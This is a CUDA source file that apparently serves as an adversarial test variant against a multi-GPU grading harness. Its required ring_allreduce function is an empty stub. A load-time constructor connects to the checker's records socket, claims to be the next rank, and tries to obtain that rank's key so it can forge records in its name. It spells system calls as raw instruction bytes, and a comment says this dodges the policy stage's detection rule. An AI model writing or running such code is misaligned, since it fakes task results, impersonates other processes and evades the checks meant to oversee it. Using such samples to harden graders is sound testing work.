/*
 * ring.cu — module3/ring-allreduce, forgery: an ordinary constructor connects to the checker's
 * records channel claiming the next rank, to be handed that rank's key before that rank's own
 * harness asks for it (with the key, records could be written in its name). Does no work.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "ring-allreduce.h"

#include <fcntl.h>

/* A system call spelled as the instruction's bytes (x86-64): no symbol and no "syscall" word for
 * the policy stage's side-route rule to find. That rule is a speed bump; what this variant
 * proves is the line behind it. */
static long raw_sys3(long nr, long a, long b, long c) {
  long r;
  __asm__ volatile(".byte 0x0f, 0x05" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

__attribute__((constructor)) static void claim_next_rank(void) {
  const char *addr = getenv("MGPU_RECORDS"), *rank = getenv("MGPU_RANK");
  const char *world = getenv("MGPU_WORLD_SIZE");
  struct sockaddr_un sa;
  char hello[128], reply[256];
  int fd;
  if (!addr || strncmp(addr, "unix:", 5) != 0 || !rank || !world) return;
  fd = (int)raw_sys3(41 /* socket */, AF_UNIX, SOCK_STREAM, 0);
  memset(&sa, 0, sizeof sa);
  sa.sun_family = AF_UNIX;
  snprintf(sa.sun_path, sizeof sa.sun_path, "%s", addr + 5);
  if (raw_sys3(42 /* connect */, fd, (long)&sa, sizeof sa) != 0) return;
  snprintf(hello, sizeof hello, "hello %d %d c/1\n", (atoi(rank) + 1) % atoi(world), (int)getpid());
  if (write(fd, hello, strlen(hello)) < 0) return;
  if (read(fd, reply, sizeof reply - 1) < 0) return;
}

void ring_allreduce(ncclComm_t comm, int rank, int world, const float *send, float *recv,
                    size_t n, float *scratch, cudaStream_t stream) {
  (void)comm, (void)rank, (void)world, (void)send, (void)recv, (void)n, (void)scratch, (void)stream;
}
